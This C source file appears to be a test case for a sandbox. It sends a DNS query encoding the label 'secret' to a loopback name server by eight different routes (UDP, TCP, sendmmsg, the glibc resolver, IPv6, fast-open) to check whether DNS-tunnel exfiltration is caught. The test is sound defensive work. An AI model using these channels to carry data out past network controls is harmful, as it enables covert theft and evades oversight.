/*
 * Carries what it knows out in names that are looked up. name-queries <way> <port>
 * Family: dns-tunnel
 * Facts: a name server sees every name that is asked for, so `<secret>.example` is a message (RFC 1035; that is how DNS tunnels
 * work); glibc asks over UDP, over TCP when told to, and any program can write the packet itself (man 3 resolver).
 * Witness: the neighbour, which stands at the port of a name server, was reached.
 * Cases: name | what it tries | attack | twin | marks
 *   datagram | a query by UDP | datagram {udp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   connected | a query by a connected UDP socket | connected {udp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   two-at-once | two queries by sendmmsg | two-at-once {udp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   stream | a query by TCP | stream {tcp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   resolver | by the C library, with a name server of its own | resolver {udp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   resolver-stream | by the C library over TCP | resolver-stream {tcp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   six | a query by UDP over IPv6 | six {udp} | plain {allowed} | event=net.connect,syscall,net.dns
 *   fast-open | a query in the first packet of a connection | fast-open {tcp} | plain {allowed} | event=net.connect,syscall,net.dns
 */
#include "attack.h"

#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netinet/in.h>
#include <resolv.h>

int main(int argc, char **argv) {
  const char *way = argument(argc, argv, 1);
  struct sockaddr_in address = {
      .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argument(argc, argv, 2))), .sin_addr = {htonl(INADDR_LOOPBACK)}};
  static const unsigned char query[] = {0, 29, 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 5, 's', 'e', 'c', 'r', 'e',
                                        't', 5, 'k', 'i', 't', 'e', 'n', 0, 0, 1, 0, 1};
  const void *packet = query + 2;
  const size_t length = sizeof query - 2;
  if (is(way, "plain")) must("connect", connect((int)must("socket", socket(AF_INET, SOCK_STREAM, 0)), (struct sockaddr *)&address, sizeof address));
  else if (is(way, "datagram")) must("sendto", sendto((int)must("socket", socket(AF_INET, SOCK_DGRAM, 0)), packet, length, 0, (struct sockaddr *)&address, sizeof address));
  else if (is(way, "connected")) {
    int own = (int)must("socket", socket(AF_INET, SOCK_DGRAM, 0));
    must("connect", connect(own, (struct sockaddr *)&address, sizeof address));
    must("send", send(own, packet, length, 0));
  } else if (is(way, "two-at-once")) {
    struct iovec part = {.iov_base = (void *)packet, .iov_len = length};
    struct mmsghdr two[2] = {{.msg_hdr = {.msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &part, .msg_iovlen = 1}}};
    two[1] = two[0];
    must("sendmmsg", sendmmsg((int)must("socket", socket(AF_INET, SOCK_DGRAM, 0)), two, 2, 0));
  } else if (is(way, "stream")) {
    int own = (int)must("socket", socket(AF_INET, SOCK_STREAM, 0));
    must("connect", connect(own, (struct sockaddr *)&address, sizeof address));
    (void)!write(own, query, sizeof query);
  } else if (is(way, "fast-open")) {
    int own = (int)must("socket", socket(AF_INET, SOCK_STREAM, 0));
    must("sendto", sendto(own, query, sizeof query, MSG_FASTOPEN, (struct sockaddr *)&address, sizeof address));
  } else if (is(way, "six")) {
    struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = address.sin_port, .sin6_addr = IN6ADDR_LOOPBACK_INIT};
    must("sendto", sendto((int)must("socket", socket(AF_INET6, SOCK_DGRAM, 0)), packet, length, 0, (struct sockaddr *)&six, sizeof six));
  } else if (strncmp(way, "resolver", 8) == 0) {
    struct __res_state state = {0};
    prepare("res_ninit", res_ninit(&state));
    state.nscount = 1;
    state.nsaddr_list[0] = address;
    state.retrans = 1, state.retry = 1;
    if (is(way, "resolver-stream")) state.options |= RES_USEVC;
    unsigned char answer[512];
    errno = 0;
    if (res_nquery(&state, "secret.kit.example", ns_c_in, ns_t_a, answer, sizeof answer) < 0 && (errno == EACCES || errno == EPERM)) refused("res_query", errno);
  } else {
    errno = EINVAL;
    broken("way");
  }
  reached(way);
}
